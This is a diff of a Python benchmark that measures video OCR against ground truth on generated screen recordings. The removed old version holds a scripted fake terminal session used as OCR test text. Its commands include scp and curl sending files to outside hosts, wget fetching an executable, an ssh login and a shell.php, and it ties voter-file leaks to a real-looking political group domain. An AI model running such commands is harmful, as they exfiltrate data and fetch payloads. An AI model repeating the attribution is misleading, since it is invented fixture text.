@@ -1,212 +1,304 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Benchmark: smart-sampled video OCR against the naive 1 fps full-frame baseline.
+"""Benchmark: what the video OCR reads off generated screen recordings, against exact ground truth.
 
-Generates a 60 s, 1280x720, 10 fps terminal recording (commands typed key by key, output blocks,
-scrolling once the screen is full, a blinking cursor), then in one process measures:
+Every kind of screen the issue names is generated (``tests/unit/ingest/recordings.py``): typed input
+at 30 fps, scrolling output, a light theme, a small font, a browser, tmux panes side by side (with a
+value wrapped across two rows), blurred lines, low-contrast lines, a wandering pointer and a dragged
+window, 720p at 360 kbit/s, and a 4K desktop. A held-out set uses other fonts, colours, encoders
+(H.265, VP9) and content; it is reported separately and was not tuned on.
 
-- model load time (reported separately);
-- ``analyse_video`` wall time / video duration (target <= 0.5 on 2 cores, load included);
-- the naive baseline (full-frame detection + recognition on one frame per second) and the ratio;
-- recall of the on-screen indicators known from the generator, and first-seen time error.
+For each recording, and overall, it prints recall (of the indicators a person can read), precision
+of what is presented as certain (``certain`` and ``enhanced``; ``uncertain`` readings are counted
+apart), every false value with the reason (a typed prefix, a misread, glued tokens, a case variant,
+not on screen), the first-seen error against the moment the complete value was first visible, and
+the analysis time over the video's duration with the model load counted once per process.
 
-Run: ``.venv/bin/python tests/bench/video_ocr_speed.py [--keep DIR] [--seconds 60]``
+Run: ``.venv/bin/python tests/bench/video_ocr_speed.py [--seconds 40] [--set tune|heldout|all]
+[--kinds typed,tmux] [--cache DIR]``. Videos are cached (generation takes longer than analysis).
 """
 
 from __future__ import annotations
 
 import argparse
 import os
+import resource
+import statistics
 import sys
-import tempfile
 import time
-from dataclasses import dataclass
+from collections import defaultdict
+from dataclasses import dataclass, field
 from pathlib import Path
 
 ROOT = Path(__file__).resolve().parents[2]
 sys.path[:0] = [str(ROOT), str(ROOT / "tests" / "unit")]
 
-import av  # noqa: E402
-import numpy as np  # noqa: E402
-from ingest.screencast import Shown, render_screencast  # noqa: E402
+from ingest.recordings import KINDS, Recording, Truth, make, render, truth  # noqa: E402
+
+from desktop.core.confusables import skeleton  # noqa: E402
+
+PRESENTED = ("certain", "enhanced")
+GENERATOR = "g2"  # bump when recordings.py renders differently (cached videos are then made again)
+KIND_VERSIONS = {"browser": "g3"}  # g3: the address bar was painted over by the next URL's empty bar
+TARGETS = {"precision": 0.99, "recall_clean": 0.97, "recall_hard": 0.85, "first_seen_s": 0.5, "ratio": 0.1}
 
 
-@dataclass(frozen=True)
-class Step:
-    """One thing that happens on screen: a command typed at ``cps`` chars/s, or output lines at once."""
+@dataclass
+class Score:
+    """What one recording (or a set of them) scored."""
 
-    time_s: float
-    lines: tuple[str, ...]
-    typed: bool = False
-    indicators: tuple[str, ...] = ()
+    name: str
+    duration_s: float = 0.0
+    analysis_s: float = 0.0
+    cpu_s: float = 0.0
+    required: dict[str, int] = field(default_factory=lambda: defaultdict(int))
+    found: dict[str, int] = field(default_factory=lambda: defaultdict(int))
+    found_any: dict[str, int] = field(default_factory=lambda: defaultdict(int))
+    presented: int = 0
+    correct: int = 0
+    uncertain: int = 0
+    uncertain_right: int = 0
+    errors: list[float] = field(default_factory=list)
+    false: list[str] = field(default_factory=list)
+    missed: list[str] = field(default_factory=list)
 
+    def add(self, other: Score) -> None:
+        self.duration_s += other.duration_s
+        self.analysis_s += other.analysis_s
+        self.cpu_s += other.cpu_s
+        for k, v in other.required.items():
+            self.required[k] += v
+        for k, v in other.found.items():
+            self.found[k] += v
+        for k, v in other.found_any.items():
+            self.found_any[k] += v
+        self.presented += other.presented
+        self.correct += other.correct
+        self.uncertain += other.uncertain
+        self.uncertain_right += other.uncertain_right
+        self.errors += other.errors
+        self.false += [f"{other.name}: {f}" for f in other.false]
+        self.missed += [f"{other.name}: {m}" for m in other.missed]
 
-SCRIPT: tuple[Step, ...] = (
-    Step(1.0, ("$ whoami",), typed=True),
-    Step(2.2, ("operator",)),
-    Step(3.0, ("$ ping -c1 185.141.63.120",), typed=True, indicators=("185.141.63.120",)),
-    Step(5.4, ("PING 185.141.63.120 (185.141.63.120) 56(84) bytes of data.",
-               "64 bytes from 185.141.63.120: icmp_seq=1 ttl=52 time=41.2 ms")),
-    Step(7.0, (r"PS> cd C:\Users\operator\Desktop\emails",), typed=True,
-         indicators=(r"C:\Users\operator\Desktop\emails",)),
-    Step(10.5, ("PS> dir",), typed=True),
-    Step(11.2, ("Mode   LastWriteTime       Length Name", "-a---  2024-10-02 11:04  48213 voters_FL.xlsx",
-                "-a---  2024-10-02 11:09  90112 voters_PA.xlsx", "-a---  2024-10-03 08:15  1802 list.txt",
-                "-a---  2024-10-03 09:40  33200 data.zip"),
-         indicators=("voters_FL.xlsx", "voters_PA.xlsx", "data.zip")),
-    Step(14.0, ("$ scp data.zip root@45.142.212.61:/tmp/",), typed=True,
-         indicators=("45.142.212.61", "/tmp/")),
-    Step(17.5, ("data.zip                      100%   32KB 410.2KB/s   00:00",)),
-    Step(19.0, ("$ curl -s http://proudboys-official.com/send.php -d @list.txt",),
-         indicators=("http://proudboys-official.com/send.php",)),
-    Step(20.5, ('{"status":"queued","relay":"mx2.mailpanel.ru"}',), indicators=("mx2.mailpanel.ru",)),
-    Step(22.0, ("$ cat /etc/hosts",), typed=True, indicators=("/etc/hosts",)),
-    Step(23.5, ("127.0.0.1 localhost", "91.219.236.18 panel.internal-mail.net"),
-         indicators=("91.219.236.18", "panel.internal-mail.net")),
-    Step(25.0, ("$ mail -s update fl.voter.info@protonmail.com < list.txt",),
-         indicators=("fl.voter.info@protonmail.com",)),
-    Step(27.0, ("$ ssh -i ~/.ssh/id_rsa admin@103.75.190.12",), typed=True,
-         indicators=("103.75.190.12",)),
-    Step(30.5, ("Welcome to Ubuntu 22.04.4 LTS", "Last login: Wed Oct  2 10:58:11 2024 from 45.142.212.61",
-                "admin@vps:~$ ls /var/www/html/uploads"),
-         indicators=("/var/www/html/uploads",)),
-    Step(32.5, ("index.php  shell.php  dump_2024-10-02.sql",), indicators=("shell.php",)),
-    Step(34.0, ("admin@vps:~$ wget https://files.catbox.moe/x7k2qp.exe -O /tmp/upd.exe",),
-         indicators=("https://files.catbox.moe/x7k2qp.exe", "/tmp/upd.exe")),
-    Step(36.0, ("Saving to: '/tmp/upd.exe'", "upd.exe    100%[=========>]  1.21M  --.-KB/s    in 0.4s")),
-    Step(38.0, ("admin@vps:~$ history | tail -3",), typed=True),
-    Step(40.0, ("  201  cd /opt/tools/scanner", "  202  ./scan.sh 198.51.100.77", "  203  exit"),
-         indicators=("/opt/tools/scanner", "198.51.100.77")),
-    Step(42.0, ("admin@vps:~$ exit",)),
-    Step(43.0, ("logout", "Connection to 103.75.190.12 closed.")),
-    Step(45.0, (r"PS> Compress-Archive C:\Users\operator\Documents\leak -Dest leak.zip",),
-         indicators=(r"C:\Users\operator\Documents\leak",)),
-    Step(48.0, ("PS> Send-MailMessage -To tips@example-news.org -Attach leak.zip",),
-         indicators=("tips@example-news.org",)),
-    Step(51.0, ("PS> Invoke-WebRequest http://193.42.33.8:8080/gate.php",), typed=True,
-         indicators=("http://193.42.33.8:8080/gate.php",)),
-    Step(56.0, ("StatusCode : 200", "Content    : OK")),
-)
+    def recall(self, category: str | None = None) -> float:
+        keys = [category] if category else list(self.required)
+        need = sum(self.required[k] for k in keys)
+        return sum(self.found[k] for k in keys) / need if need else float("nan")
 
-CPS = 12.0  # typing speed for typed commands
+    @property
+    def precision(self) -> float:
+        return self.correct / self.presented if self.presented else float("nan")
 
 
-def screen_events(script: tuple[Step, ...]) -> tuple[list[Shown], list[tuple[str, float]]]:
-    """Turns the script into per-frame line states and the expected (indicator, time fully shown)."""
-    shown: list[Shown] = []
-    expected: list[tuple[str, float]] = []
-    for step in script:
-        done = step.time_s
-        for text in step.lines:
-            if step.typed:
-                prompt_end = text.index(" ") + 1
-                for n in range(prompt_end, len(text) + 1):
-                    shown.append(Shown(step.time_s + (n - prompt_end) / CPS, text[:n], grows=n > prompt_end))
-                done = step.time_s + (len(text) - prompt_end) / CPS
-            else:
-                shown.append(Shown(step.time_s, text))
-        expected += [(value, done) for value in step.indicators]
-    return shown, expected
+def _reason(type_: str, value: str, truths: list[Truth]) -> str:
+    """Why a value read is not on screen."""
+    same = [t for t in truths if t.type == type_]
+    for t in truths:
+        if t.value != value and t.value.startswith(value):
+            return f"prefix of {t.value}"
+    for t in same:
+        if t.value.casefold() == value.casefold():
+            return f"case variant of {t.value}"
+        if skeleton(t.value) == skeleton(value):
+            return f"confusable misread of {t.value}"
+    for t in truths:
+        if t.value in value and t.value != value:
+            return f"glued: contains {t.value}"
+    for t in same:
+        if _distance(t.value, value) <= max(2, len(t.value) // 8):
+            return f"misread of {t.value}"
+    return "not on screen"
 
 
-def fold(text: str) -> str:
-    return "".join(text.split()).casefold()
+def _distance(a: str, b: str) -> int:
+    prev = list(range(len(b) + 1))
+    for i, ca in enumerate(a, 1):
+        cur = [i] + [0] * len(b)
+        for j, cb in enumerate(b, 1):
+            cur[j] = min(prev[j] + 1, cur[j - 1] + 1, prev[j - 1] + (ca != cb))
+        prev = cur
+    return prev[-1]
 
 
-def first_match(value: str, reads: list[tuple[float, str]]) -> float | None:
-    needle = fold(value)
-    times = [t for t, text in reads if needle in fold(text)]
-    return min(times) if times else None
-
-
-def baseline(path: Path, engine: object) -> tuple[float, list[tuple[float, str]]]:
-    """Naive: decode everything, full-frame OCR one frame per second."""
-    started = time.perf_counter()
-    reads: list[tuple[float, str]] = []
-    with av.open(str(path)) as container:
-        stream = container.streams.video[0]
-        stream.thread_type = "AUTO"
-        next_t = 0.0
-        for frame in container.decode(stream):
-            t = float(frame.time or 0.0)
-            if t + 1e-6 < next_t:
-                continue
-            next_t += 1.0
-            rgb = np.asarray(frame.to_ndarray(format="rgb24"))
-            reads += [(t, line.text) for line in engine.read(rgb)]  # type: ignore[attr-defined]
-    return time.perf_counter() - started, reads
-
-
-def score(expected: list[tuple[str, float]], reads: list[tuple[float, str]]) -> tuple[int, list[str], float]:
-    found, missed, errors = 0, [], []
-    for value, t_true in expected:
-        t_seen = first_match(value, reads)
-        if t_seen is None:
-            missed.append(value)
+def score(rec: Recording, truths: list[Truth], occurrences: list[object], analysis_s: float) -> Score:
+    s = Score(rec.name, rec.duration_s, analysis_s)
+    want = {(t.type, t.value): t for t in truths}
+    best: dict[tuple[str, str], object] = {}
+    any_status: dict[tuple[str, str], object] = {}
+    for occ in occurrences:
+        key = (occ.found.type, occ.found.value)  # type: ignore[attr-defined]
+        presented = occ.status in PRESENTED  # type: ignore[attr-defined]
+        if presented and (key not in best or occ.time_s < best[key].time_s):  # type: ignore[attr-defined]
+            best[key] = occ
+        if key not in any_status or occ.time_s < any_status[key].time_s:  # type: ignore[attr-defined]
+            any_status[key] = occ
+    for key, t in want.items():
+        if not t.readable:
             continue
-        found += 1
-        errors.append(t_seen - t_true)
-    worst = max((abs(e) for e in errors), default=float("nan"))
-    return found, missed, worst
+        s.required[t.category] += 1
+        if key in best:
+            s.found[t.category] += 1
+            s.errors.append(best[key].time_s - t.time_s)  # type: ignore[attr-defined]
+        else:
+            got = any_status.get(key)
+            s.missed.append(f"{key[0]} {key[1]}" + (" (read, uncertain)" if got else ""))
+        if key in any_status:
+            s.found_any[t.category] += 1
+    for key, occ in best.items():
+        s.presented += 1
+        if key in want:
+            s.correct += 1
+        else:
+            s.false.append(
+                f"{key[0]} {key[1]!r} ({occ.status}, conf {occ.confidence:.2f}, "  # type: ignore[attr-defined]
+                f"{occ.frames_agree}/{occ.reads} reads): "  # type: ignore[attr-defined]
+                f"{_reason(key[0], key[1], truths)}"
+            )
+    for key in any_status:
+        if key not in best:
+            s.uncertain += 1
+            s.uncertain_right += key in want
+    return s
+
+
+def _cached(rec: Recording, cache: Path) -> Path:
+    """The rendered recording, from the cache when this generator version rendered it before."""
+    version = KIND_VERSIONS.get(rec.kind, GENERATOR)
+    suffix = "webm" if rec.codec == "libvpx-vp9" else "mp4"
+    path = cache / f"{rec.name}-{int(rec.duration_s)}s-{version}.{suffix}"
+    if not path.exists():
+        tmp = path.with_suffix(".part" + path.suffix)
+        render(rec, tmp)
+        tmp.rename(path)
+    return path
+
+
+def _cpu() -> float:
+    """CPU seconds of this process, all threads (onnxruntime's and the decoder's included)."""
+    usage = resource.getrusage(resource.RUSAGE_SELF)
+    return usage.ru_utime + usage.ru_stime
+
+
+def _row(s: Score, load_s: float) -> str:
+    errs = [abs(e) for e in s.errors]
+    med = statistics.median(errs) if errs else float("nan")
+    worst = max(errs, default=float("nan"))
+    need = sum(s.required.values())
+    got = sum(s.found.values())
+    ratio = (s.analysis_s + load_s) / s.duration_s if s.duration_s else float("nan")
+    return (
+        f"{s.name:<26}{f'{got}/{need}':>8}{s.recall():>8.3f}{f'{s.correct}/{s.presented}':>9}"
+        f"{s.precision:>8.3f}{f'{s.uncertain_right}/{s.uncertain}':>9}{med:>8.2f}{worst:>8.2f}"
+        f"{s.analysis_s / s.duration_s if s.duration_s else float('nan'):>8.3f}{ratio:>9.3f}"
+        f"{s.cpu_s / 2 / s.duration_s if s.duration_s else float('nan'):>9.3f}"
+    )
+
+
+HEADER = (
+    f"{'recording':<26}{'found':>8}{'recall':>8}{'right':>9}{'prec.':>8}{'unc.ok':>9}{'Δt med':>8}"
+    f"{'Δt max':>8}{'÷dur':>8}{'÷dur+ld':>9}{'cpu/2÷d':>9}"
+)
 
 
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("--keep", type=Path, help="write the video here instead of a temp dir")
-    parser.add_argument("--no-baseline", action="store_true", help="skip the slow 1 fps baseline")
+    parser.add_argument("--seconds", type=float, default=30.0)
+    parser.add_argument("--set", choices=("tune", "heldout", "all"), default="all")
+    parser.add_argument("--kinds", default=",".join(KINDS))
+    parser.add_argument("--seed", type=int, default=1)
+    parser.add_argument(
+        "--cache", type=Path, default=Path(os.environ.get("TMPDIR", "/tmp")) / "casetrail-bench-videos"
+    )
     args = parser.parse_args()
-
-    shown, expected = screen_events(SCRIPT)
-    duration = 60.0
-    with tempfile.TemporaryDirectory() as tmp:
-        folder = args.keep or Path(tmp)
-        folder.mkdir(parents=True, exist_ok=True)
-        video = render_screencast(folder / "bench.mp4", shown, duration_s=duration, fps=10, scroll=True,
-                                  cursor=True)
-
-        t0 = time.perf_counter()
-        from desktop.ingest.ocr import OcrEngine
-        from desktop.ingest.video import analyse_video
-
-        engine = OcrEngine()
-        load_s = time.perf_counter() - t0
-
-        t1 = time.perf_counter()
-        result = analyse_video(video, engine)
-        smart_s = time.perf_counter() - t1
-        smart_reads = [(s.time_s, s.text) for s in result.first_seen]
-        smart_found, smart_missed, smart_err = score(expected, smart_reads)
-
-        if args.no_baseline:
-            base_missed: list[str] = []
-            base_s, base_found, base_err = float("nan"), 0, float("nan")
-        else:
-            base_s, base_reads = baseline(video, engine)
-            base_found, base_missed, base_err = score(expected, base_reads)
-
-    n = len(expected)
-    print(f"\nvideo: {duration:.0f} s, 1280x720, 10 fps, {len(SCRIPT)} steps, {n} indicators; "
-          f"cpus={os.cpu_count()} load={os.getloadavg()[0]:.2f}")
-    print(f"model load (import + warm-up): {load_s:.2f} s")
-    print(f"smart: {result.frames_decoded} frames decoded, {len(result.frames)} frames read, "
-          f"OCR calls {result.ocr_calls}, {result.ocr_s:.2f} s in OCR, "
-          f"{sum(1 for _ in result.kept_frames())} frames kept as PNG")
-    header = f"{'pipeline':<28}{'time s':>8}{'÷ video':>9}{'÷ baseline':>12}{'recall':>9}{'max |Δt| s':>12}"
-    print(header)
-    print("-" * len(header))
-    rows = [
-        ("smart (load included)", smart_s + load_s, smart_found, smart_err),
-        ("smart (engine loaded)", smart_s, smart_found, smart_err),
-        ("baseline 1 fps full frame", base_s, base_found, base_err),
+    args.cache.mkdir(parents=True, exist_ok=True)
+    kinds = [k for k in args.kinds.split(",") if k]
+    sets = {"tune": [False], "heldout": [True], "all": [False, True]}[args.set]
+    recordings = [
+        make(kind, args.seed + (100 if held else 0), held_out=held, duration_s=args.seconds)
+        for held in sets
+        for kind in kinds
     ]
-    for name, secs, found, err in rows:
-        print(f"{name:<28}{secs:>8.2f}{secs / duration:>9.3f}{secs / base_s:>12.3f}"
-              f"{f'{found}/{n}':>9}{err:>12.2f}")
-    if smart_missed:
-        print("smart missed:", ", ".join(smart_missed))
-    if base_missed:
-        print("baseline missed:", ", ".join(base_missed))
-    ok = (smart_s + load_s) / duration <= 0.5 and smart_found == n
-    print("target (<= 0.5 x duration, all indicators):", "met" if ok else "NOT met")
+    t0 = time.perf_counter()
+    videos = [(rec, _cached(rec, args.cache)) for rec in recordings]
+    generated_s = time.perf_counter() - t0
+
+    load_started = time.perf_counter()
+    from desktop.ingest.ocr import OcrEngine
+    from desktop.ingest.video import analyse_video
+
+    engine = OcrEngine()
+    load_s = time.perf_counter() - load_started
+    totals = {False: Score("overall (tuned set)"), True: Score("overall (held-out set)")}
+    rows: list[Score] = []
+    for rec, path in videos:
+        truths = truth(rec)
+        started, cpu_started = time.perf_counter(), _cpu()
+        result = analyse_video(path, engine)
+        elapsed = time.perf_counter() - started
+        s = score(rec, truths, list(result.occurrences), elapsed)
+        s.cpu_s = _cpu() - cpu_started
+        rows.append(s)
+        totals[rec.held_out].add(s)
+        print(f"  analysed {rec.name}: {elapsed:.1f} s, OCR calls {result.ocr_calls}", flush=True)
+
+    print(
+        f"\ncpus={os.cpu_count()} load average={' '.join(f'{x:.2f}' for x in os.getloadavg())}; model load "
+        f"(import + warm-up) {load_s:.2f} s; {len(videos)} recordings of {args.seconds:.0f} s "
+        f"(generated or cached in {generated_s:.0f} s)"
+    )
+    print(
+        "recall: of the indicators a person can read; precision: of values presented as certain "
+        "(certain + enhanced);\nunc.ok: uncertain readings that were right / all uncertain; Δt: first-seen "
+        "error in s; ÷dur: analysis ÷ duration (engine loaded); ÷dur+ld: with the model load;\n"
+        "cpu/2÷d: CPU seconds of the analysis / 2 cores / duration, what an idle 2-core machine would take"
+    )
+    print(HEADER)
+    print("-" * len(HEADER))
+    for s in rows:
+        print(_row(s, load_s))
+    print("-" * len(HEADER))
+    ok = True
+    for held, total in totals.items():
+        if not total.duration_s:
+            continue
+        print(_row(total, load_s))
+        for category in ("clean", "lowbitrate", "faint"):
+            if total.required.get(category):
+                print(
+                    f"    recall {category}: {total.recall(category):.3f} "
+                    f"({total.found[category]}/{total.required[category]}; read at all, any status: "
+                    f"{total.found_any[category]})"
+                )
+        errs = [abs(e) for e in total.errors]
+        p95 = sorted(errs)[int(0.95 * (len(errs) - 1))] if errs else float("nan")
+        print(
+            f"    first-seen error: median {statistics.median(errs) if errs else float('nan'):.2f} s, "
+            f"95th percentile {p95:.2f} s, max {max(errs, default=float('nan')):.2f} s"
+        )
+        if not held:
+            ok = (
+                total.precision >= TARGETS["precision"]
+                and total.recall("clean") >= TARGETS["recall_clean"]
+                and all(
+                    total.recall(c) >= TARGETS["recall_hard"]
+                    for c in ("lowbitrate", "faint")
+                    if total.required.get(c)
+                )
+                and (total.analysis_s + load_s) / total.duration_s <= TARGETS["ratio"]
+            )
+    for total in totals.values():
+        if total.false:
+            print(f"\nfalse values presented as certain ({total.name}):")
+            for f in total.false:
+                print("  " + f)
+        if total.missed:
+            print(f"\nmissed ({total.name}):")
+            for m in total.missed:
+                print("  " + m)
+    print(
+        "\ntargets (tuned set: precision >= 0.99, recall >= 0.97 clean and >= 0.85 low bitrate / faint, "
+        "time <= 0.1x):",
+        "met" if ok else "NOT met",
+    )
     return 0 if ok else 1
 
 
